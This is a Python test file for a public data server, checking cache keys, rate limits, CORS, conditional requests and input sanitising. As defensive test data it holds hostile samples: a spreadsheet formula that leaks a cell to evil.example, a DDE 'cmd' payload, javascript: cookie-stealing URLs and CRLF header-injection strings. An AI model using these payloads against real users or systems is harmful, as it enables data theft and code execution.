"""The public server holds (issue 17, point 6), tested over the ASGI app: cache keys and budget, reloading a rebuilt
warehouse, limits on expensive requests, control characters, 405, CORS, validators and 304, CSV formulas, links."""

from __future__ import annotations

import csv
import io
import shutil
import string
import threading
import time
from pathlib import Path

import duckdb
import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

from prosperity.safe import csv_cell, csv_sql, http_url, neutralise
from prosperity.web import create_app
from prosperity.web.limits import Busy, Limits, Ticket
from prosperity.web.site import LRU, Site
from tests.web.conftest import LOOSE

LCR = "E47000004"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'


def envelope(r, status: int, *words: str) -> dict:  # type: ignore[no-untyped-def]
    assert r.status_code == status, r.text
    body = r.json()
    assert set(body) == {"ok", "error", "status"} and body["ok"] is False and body["status"] == status
    for w in words:
        assert w in body["error"]
    return body


@pytest.fixture(scope="session")
def hostile_warehouse(warehouse_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the session's warehouse whose publisher metadata is hostile: a formula for a label, a
    ``javascript:`` source URL, and no stored assessments (so pages compute from the hostile metadata)."""
    from prosperity.assess.spec import specs_from_framework
    from prosperity.framework import load_framework, shipped_framework_path

    ghg = next(s for s in specs_from_framework(load_framework(shipped_framework_path()))
               if s.id == "ghg-emissions-per-head").warehouse  # fmt: skip
    db = tmp_path_factory.mktemp("hostile") / "prosperity.duckdb"
    shutil.copyfile(warehouse_path, db)
    con = duckdb.connect(str(db))
    try:
        con.execute("UPDATE indicators SET label = ? WHERE indicator_id = 'greenhouse-gas-regulating'", [FORMULA])
        con.execute("UPDATE indicators SET source_url = 'javascript:alert(document.cookie)' WHERE indicator_id = ?",
                    [ghg])  # fmt: skip
        con.execute("""UPDATE releases SET live_url = 'javascript:alert(1)', title = '@SUM(1+1)*cmd|'' /C calc''!A0'
                       WHERE release_id = (SELECT min(release_id) FROM current_releases)""")  # fmt: skip
        con.execute("DELETE FROM meta WHERE key = 'assessments_digest'")
        con.execute("CHECKPOINT")
    finally:
        con.close()
    return db


@pytest.fixture(scope="session")
def hostile(hostile_warehouse: Path):  # type: ignore[no-untyped-def]
    with TestClient(create_app(hostile_warehouse, limits=Limits(**LOOSE)), raise_server_exceptions=False) as c:
        yield c


# ---- absolute URLs and the cache key ---------------------------------------------------------------------
def test_absolute_urls_come_from_configuration_not_the_host_header(warehouse_path: Path) -> None:
    app = create_app(warehouse_path, public_url="https://data.example.org/", limits=Limits(**LOOSE))
    with TestClient(app) as c:
        evil = c.get("/api/v1/", headers={"host": "evil.example"}).json()["data"]
        plain = c.get("/api/v1/").json()["data"]
        assert evil == plain
        assert plain["openapi"] == "https://data.example.org/api/v1/openapi.json"
        desc = c.get("/api/v1/download", headers={"host": "evil.example"}).json()
        assert all(r["path"].startswith("https://data.example.org/api/v1/download/") for r in desc["resources"])
        assert "evil.example" not in c.get("/api/v1/download").text


def test_public_url_must_be_a_web_address(warehouse_path: Path) -> None:
    from prosperity.errors import ProsperityError

    for bad in ("javascript:alert(1)", "data.example.org", "https://x.example/?q=1", "http://a b.example"):
        with pytest.raises(ProsperityError, match="public URL"):
            create_app(warehouse_path, public_url=bad)


def test_cache_key_holds_host_and_the_accept_header_the_app_reads(client) -> None:
    from prosperity.web.middleware import DataResponses

    a = {"type": "http", "path": "/api/v1/areas", "query_string": b"", "scheme": "http",
         "headers": [(b"host", b"a.example")]}  # fmt: skip
    b = {**a, "headers": [(b"host", b"b.example")]}
    assert DataResponses.key(a) != DataResponses.key(b)
    # Two Accept headers: the app answers the first (Starlette reads the first); the key must too.
    url = "/api/v1/areas?parent=E47000004&limit=3"
    r = client.get(url, headers=[("accept", "text/csv"), ("accept", "application/json")])
    assert r.headers["content-type"].startswith("text/csv")
    assert client.get(url).headers["content-type"].startswith("application/json")


def test_response_cache_keeps_within_its_byte_budget(warehouse_path: Path) -> None:
    app = create_app(warehouse_path, cache_bytes=256 * 1024, limits=Limits(**LOOSE))
    with TestClient(app) as c:
        for i in range(300):  # 600 distinct query strings
            assert c.get("/api/v1/areas", params={"search": f"a{i}", "limit": 5}).status_code == 200
            assert c.get("/api/v1/releases", params={"limit": 50, "offset": i % 60, "n": i}).status_code == 200
        cache = app.responses.cache
        assert 0 < cache.bytes <= 256 * 1024
        assert len(cache) < 600


def test_lru_byte_budget_and_single_flight() -> None:
    lru = LRU(100, max_bytes=1000, weigh=len)
    for i in range(50):
        lru.put(i, "x" * 100)
    assert lru.bytes <= 1000 and len(lru) == 10 and lru.get(49) and lru.get(0) is None
    lru.put("huge", "x" * 5000)  # larger than the whole budget: not kept
    assert lru.get("huge") is None and lru.bytes <= 1000
    calls = []
    gate = threading.Event()

    def make() -> str:
        calls.append(1)
        gate.wait(5)
        return "value"

    threads = [threading.Thread(target=lambda: lru.get_or("k", make)) for _ in range(5)]
    for t in threads:
        t.start()
    time.sleep(0.2)
    gate.set()
    for t in threads:
        t.join()
    assert len(calls) == 1 and lru.get("k") == "value"


# ---- a rebuilt warehouse is picked up ------------------------------------------------------------------
def _rename_area(src: Path, dest: Path, code: str, name: str) -> None:
    tmp = dest.with_name(dest.name + ".next")
    shutil.copyfile(src, tmp)
    con = duckdb.connect(str(tmp))
    try:
        con.execute("UPDATE areas SET name = ? WHERE code = ?", [name, code])
        con.execute("CHECKPOINT")
    finally:
        con.close()
    tmp.replace(dest)  # as a build does: the complete new file renamed over the old


def test_a_rebuilt_warehouse_is_served_without_a_restart(warehouse_path: Path, tmp_path: Path) -> None:
    db = tmp_path / "prosperity.duckdb"
    shutil.copyfile(warehouse_path, db)
    app = create_app(db, check_every=0, limits=Limits(**LOOSE))
    with TestClient(app) as c:
        first = c.get("/api/v1/areas/E08000012")
        assert first.json()["data"]["name"] == "Liverpool"
        old_site = app.state.sites.site
        held = old_site.acquire()  # a request still running on the old warehouse
        _rename_area(warehouse_path, db, "E08000012", "Liverpool (rebuilt)")
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            r = c.get("/api/v1/areas/E08000012")
            if r.json()["data"]["name"] == "Liverpool (rebuilt)":
                break
            time.sleep(0.1)
        assert r.json()["data"]["name"] == "Liverpool (rebuilt)"
        assert r.headers["etag"] != first.headers["etag"]
        assert app.state.sites.site.generation == old_site.generation + 1
        # the running request finishes on the old warehouse, which closes after it
        wh = held.warehouse()
        assert wh.area("E08000012")["name"] == "Liverpool"
        wh.con.close()
        held.release()
        with pytest.raises(duckdb.Error):
            held.warehouse()


def test_a_broken_replacement_keeps_the_old_warehouse_serving(warehouse_path: Path, tmp_path: Path) -> None:
    db = tmp_path / "prosperity.duckdb"
    shutil.copyfile(warehouse_path, db)
    app = create_app(db, check_every=0, limits=Limits(**LOOSE))
    with TestClient(app) as c:
        assert c.get("/api/v1/areas/E08000012").status_code == 200
        broken = tmp_path / "broken"
        broken.write_bytes(b"not a database at all" * 100)
        broken.replace(db)
        assert app.state.sites.reload() is False
        r = c.get("/api/v1/areas/E08000012")
        assert r.status_code == 200 and r.json()["data"]["name"] == "Liverpool"


# ---- expensive requests: concurrency and rate limits ----------------------------------------------------
def test_expensive_requests_are_rate_limited_per_client_with_retry_after(warehouse_path: Path) -> None:
    limits = Limits(concurrency=2, per_minute=0.01, burst=2, queue_wait=0)  # no token comes back during the test
    app = create_app(warehouse_path, limits=limits)
    with TestClient(app, client=("192.0.2.1", 1000)) as c, TestClient(app, client=("192.0.2.2", 1000)) as other:
        urls = [f"/api/v1/series?indicator=gva-per-hour-worked&area={LCR}&as_of=2020-01-0{i}" for i in range(1, 5)]
        assert c.get(urls[0]).status_code == 200
        assert c.get(urls[1]).status_code == 200
        refused = c.get(urls[2])
        envelope(refused, 429, "try again")
        assert int(refused.headers["retry-after"]) >= 1
        assert refused.headers["cache-control"] == "no-store"
        assert c.get(urls[0]).status_code == 200  # answered from the cache: costs nothing
        assert c.get("/api/v1/areas/E08000012").status_code == 200  # cheap requests are never limited
        assert other.get(urls[3]).status_code == 200  # another client has its own allowance
        page = c.get(f"/areas/{LCR}?as_of=2020-01-05")
        assert page.status_code == 429 and "try again" in page.text and page.headers["retry-after"]


def test_expensive_work_waits_for_a_slot_then_is_refused() -> None:
    limits = Limits(concurrency=1, per_minute=600, burst=100, queue_wait=0.2, max_waiting=1)
    a, b = Ticket("198.51.100.1"), Ticket("198.51.100.2")
    limits.admit(a, "one")
    limits.admit(a, "the same request again")  # once per request
    started = time.monotonic()
    with pytest.raises(Busy) as e:
        limits.admit(b, "two")
    assert time.monotonic() - started >= 0.15 and e.value.retry_after >= 1 and "busy" in str(e.value)
    a.release()
    limits.admit(b, "two")
    assert b.holding
    b.release()


def test_as_of_dates_between_two_loads_share_one_result(client, warehouse_path: Path) -> None:
    site = Site(warehouse_path)
    try:
        wh = site.warehouse()
        assert site.as_of(wh, "2001-01-01") == site.as_of(wh, "2002-06-30") == "0001-01-01T00:00:00"
        assert site.as_of(wh, "2999-01-01") == site.as_of(wh, "2998-01-01") != "0001-01-01T00:00:00"
        wh.con.close()
    finally:
        site.close()
    a = client.get("/api/v1/series", params={"indicator": "gva-per-hour-worked", "area": LCR, "as_of": "2998-01-01"})
    b = client.get("/api/v1/series", params={"indicator": "gva-per-hour-worked", "area": LCR, "as_of": "2999-12-31"})
    assert a.json()["data"] == b.json()["data"] and a.json()["total"] > 10


# ---- protocol-level refusals ------------------------------------------------------------------------------
@pytest.mark.parametrize("url", [
    "/api/v1/areas?search=a%0d%0aSet-Cookie:%20x=1",
    "/api/v1/series?indicator=gva-per-hour-worked%0a&area=E47000004",
    "/api/v1/indicators/gva-per-hour-worked%0d%0aX:1",
    "/areas?search=%00",
    "/indicators/x%0aY",
    "/api/v1/areas?se%0arch=1",
])  # fmt: skip
def test_control_characters_in_parameters_are_a_400_with_the_envelope(client, url: str) -> None:
    r = client.get(url)
    body = envelope(r, 400, "control character")
    assert "set-cookie" not in r.headers and "x" not in r.headers
    assert body["error"].split(":")[0] in ("path", "parameter 'search'", "parameter 'indicator'", "a parameter name")


def test_download_file_names_are_plain(client) -> None:
    r = client.get("/api/v1/indicators/gva-per-hour-worked", params={"format": "csv", "area": LCR})
    assert r.headers["content-disposition"] == f'attachment; filename="gva-per-hour-worked-{LCR}.csv"'


@pytest.mark.parametrize(("method", "url", "allow"), [
    ("DELETE", "/api/v1/groups", "GET, HEAD, POST"),
    ("POST", "/api/v1/areas", "GET, HEAD"),
    ("PUT", "/api/v1/areas/E47000004", "GET, HEAD"),
    ("POST", "/", "GET, HEAD"),
])  # fmt: skip
def test_405_says_what_is_allowed(client, method: str, url: str, allow: str) -> None:
    r = client.request(method, url)
    assert r.status_code == 405 and r.headers["allow"] == allow
    if url.startswith("/api/"):
        envelope(r, 405, "not allowed")


def test_a_body_that_arrives_too_slowly_is_a_408(warehouse_path: Path) -> None:
    import asyncio
    from concurrent.futures import ThreadPoolExecutor

    from prosperity.web.middleware import Guard

    async def app(scope, receive, send):  # type: ignore[no-untyped-def]
        while (await receive()).get("more_body"):
            pass
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"ok"})

    sent: list[dict] = []

    async def trickle():  # type: ignore[no-untyped-def]
        await asyncio.sleep(1)
        return {"type": "http.request", "body": b"x", "more_body": True}

    async def send(m):  # type: ignore[no-untyped-def]
        sent.append(m)

    scope = {"type": "http", "method": "POST", "path": "/api/v1/groups", "raw_path": b"/api/v1/groups",
             "query_string": b"", "headers": [(b"content-length", b"100")]}  # fmt: skip
    # in a thread of its own: a browser test's sync Playwright may hold an event loop in this one
    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, Guard(app, body_timeout=0.5)(scope, trickle, send)).result()
    assert sent[0]["status"] == 408 and b"did not arrive" in sent[1]["body"]


# ---- CORS -------------------------------------------------------------------------------------------------
def test_cors_for_the_read_only_api(client) -> None:
    r = client.get("/api/v1/areas?parent=E47000004", headers={"origin": "https://someone.example"})
    assert r.headers["access-control-allow-origin"] == "*"
    assert "access-control-allow-credentials" not in r.headers
    assert "etag" in r.headers["access-control-expose-headers"].lower()
    pre = client.options("/api/v1/areas", headers={"origin": "https://someone.example",
                                                    "access-control-request-method": "GET"})  # fmt: skip
    assert pre.status_code == 200 and set(pre.headers["access-control-allow-methods"].split(", ")) == {"GET", "HEAD"}
    refused = client.options("/api/v1/groups", headers={"origin": "https://someone.example",
                                                         "access-control-request-method": "POST"})  # fmt: skip
    assert refused.status_code == 400 and "POST" not in refused.headers.get("access-control-allow-methods", "")
    page = client.get("/", headers={"origin": "https://someone.example"})
    assert "access-control-allow-origin" not in page.headers


# ---- validators and conditional requests -------------------------------------------------------------------
def test_data_responses_carry_validators_and_answer_304(client) -> None:
    url = "/api/v1/strategies"
    r = client.get(url)
    etag, modified = r.headers["etag"], r.headers["last-modified"]
    assert etag.startswith('"') and r.headers["cache-control"].startswith("public, max-age=")
    again = client.get(url, headers={"if-none-match": etag})
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == etag
    assert client.get(url, headers={"if-none-match": f'"other", W/{etag}'}).status_code == 304
    assert client.get(url, headers={"if-none-match": '"other"'}).status_code == 200
    assert client.get(url, headers={"if-modified-since": modified}).status_code == 304
    as_csv = client.get(url, params={"format": "csv"})
    assert as_csv.headers["etag"] != etag
    head = client.head(url)
    assert head.status_code == 200 and head.content == b"" and head.headers["etag"] == etag
    page = client.get(f"/areas/{LCR}")
    assert client.get(f"/areas/{LCR}", headers={"if-none-match": page.headers["etag"]}).status_code == 304
    err = client.get("/api/v1/areas/E99999999")
    assert err.status_code == 404 and err.headers["cache-control"] == "no-store" and "etag" not in err.headers
    post = client.post("/api/v1/groups", json={"name": "x", "members": ["E08000012"]})
    assert post.headers["cache-control"] == "no-store"


# ---- OpenAPI --------------------------------------------------------------------------------------------
def test_openapi_describes_the_responses_really_sent(client) -> None:
    doc = client.get("/api/v1/openapi.json").json()
    assert "HTTPValidationError" not in doc["components"]["schemas"]
    assert doc["components"]["schemas"]["Error"]["required"] == ["ok", "error", "status"]
    for path, ops in doc["paths"].items():
        for method, op in ops.items():
            codes = set(op["responses"])
            assert "422" not in codes, (path, method)
            assert {"200", "400", "404", "429", "500"} <= codes, (path, method)
            assert op["responses"]["400"]["content"]["application/json"]["schema"]["$ref"].endswith("/Error")
            assert "Retry-After" in op["responses"]["429"]["headers"]
    assert "text/csv" in doc["paths"]["/api/v1/areas"]["get"]["responses"]["200"]["content"]
    assert "413" in doc["paths"]["/api/v1/groups"]["post"]["responses"]


# ---- CSV cells that would be formulas --------------------------------------------------------------------
def test_csv_rule() -> None:
    assert neutralise(FORMULA) == "'" + FORMULA
    for text in ("+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-cmd|' /C calc'!A0", "=1"):
        assert neutralise(text) == "'" + text
    for text in ("-3.5", "+2e-3", "-", "=", "-.5", "2024-01-01/P1Y", "Liverpool", "", "x=1"):
        assert neutralise(text) == text
    assert csv_cell(-3.5) == "-3.5" and csv_cell(-2) == -2 and csv_cell(None) == "" and csv_cell(float("nan")) == ""


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(alphabet=string.printable + "=+-@\t\r£é", max_size=12), min_size=1, max_size=20))
def test_the_sql_rule_is_the_python_rule(texts: list[str]) -> None:
    (got,) = _DUCK.execute(f"SELECT list_transform(?::VARCHAR[], lambda c: {csv_sql('c')})", [texts]).fetchone()
    assert got == [neutralise(t) for t in texts]


_DUCK = duckdb.connect()


def _csv(r) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    assert r.status_code == 200, r.text[:300]
    return list(csv.DictReader(io.StringIO(r.text)))


def test_api_csv_neutralises_formulas_and_keeps_negative_numbers(hostile) -> None:
    rows = _csv(hostile.get("/api/v1/series", params={"indicator": "greenhouse-gas-regulating", "area": "E08000021",
                                                      "format": "csv"}))  # fmt: skip
    values = [float(r["value"]) for r in rows if r["value"]]
    assert any(v < 0 for v in values)  # negative numbers are data: written as numbers
    assert all(not r["value"].startswith("'") for r in rows)
    releases = _csv(hostile.get("/api/v1/releases", params={"format": "csv", "limit": 1000}))
    titles = [r["title"] for r in releases if "SUM" in r["title"]]
    assert titles == ["'@SUM(1+1)*cmd|' /C calc'!A0"]


def test_downloaded_tables_neutralise_formulas(hostile) -> None:
    rows = _csv(hostile.get("/api/v1/download/indicators.csv"))
    label = next(r["label"] for r in rows if r["indicator_id"] == "greenhouse-gas-regulating")
    assert label == "'" + FORMULA
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    releases = _csv(hostile.get("/api/v1/download/releases.csv"))
    assert all(r["row_count"].lstrip("-").isdigit() for r in releases)  # numbers stay numbers


def test_cli_csv_neutralises_formulas(capsys) -> None:  # type: ignore[no-untyped-def]
    from prosperity.output import Format, emit

    emit([{"label": FORMULA, "value": -4.25, "n": -3}], Format.csv)
    out = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert out == [{"label": "'" + FORMULA, "value": "-4.25", "n": "-3"}]


# ---- links ------------------------------------------------------------------------------------------------
def test_only_web_addresses_become_links() -> None:
    assert http_url("https://www.ons.gov.uk/x?y=1") == "https://www.ons.gov.uk/x?y=1"
    assert http_url(" HTTP://example.org ") == "HTTP://example.org"
    for bad in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,x",
                "vbscript:x", "//evil.example", "/relative", "http://", "https:///x", "java\nscript:x", None, 3):
        assert http_url(bad) is None, bad


def test_a_javascript_source_url_is_shown_as_text(hostile) -> None:
    html = hostile.get(f"/indicators/ghg-emissions-per-head?area={LCR}").text
    assert 'href="javascript' not in html.lower()
    assert "javascript:alert(document.cookie)" in html  # shown, as text
    methods = hostile.get("/methodology").text
    assert 'href="javascript' not in methods.lower() and "javascript:alert(1)" in methods
